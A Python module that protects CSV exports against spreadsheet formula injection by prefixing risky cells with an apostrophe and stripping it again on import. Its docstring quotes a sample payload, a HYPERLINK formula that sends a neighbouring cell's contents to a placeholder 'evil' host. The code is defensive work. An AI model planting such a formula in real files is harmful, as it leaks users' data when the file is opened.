"""CSV cells a spreadsheet would run as a formula (OWASP "CSV injection"), and back.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula: ``=HYPERLINK("http://evil/?"&A2)`` in a
customer's name would run when the owner opens the export. Our export puts an
apostrophe in front of such a cell (the spreadsheets show it as text and hide the
apostrophe); our import takes it away again, so an export imports as the original.

To make that round trip exact, a value that itself starts with apostrophes followed by
one of those characters (``'=x``) gets one apostrophe more, and the import removes
exactly one from such a cell. Any other apostrophe (``'Conny``) is left alone both ways.

Pure: standard library only.
"""

from __future__ import annotations

FORMULA_STARTS = frozenset("=+-@\t\r")
_QUOTE = "'"


def _looks_protected(value: str) -> bool:
    """An apostrophe run followed by a formula character: "'=x", "''+1"."""
    rest = value.lstrip(_QUOTE)
    return value.startswith(_QUOTE) and bool(rest) and rest[0] in FORMULA_STARTS


def protect_cell(value: str) -> str:
    """The cell as it is written to a CSV file that spreadsheets will open."""
    if (value and value[0] in FORMULA_STARTS) or _looks_protected(value):
        return _QUOTE + value
    return value


def unprotect_cell(value: str) -> str:
    """The value of a cell written by ``protect_cell`` (other cells unchanged)."""
    return value[1:] if _looks_protected(value) else value
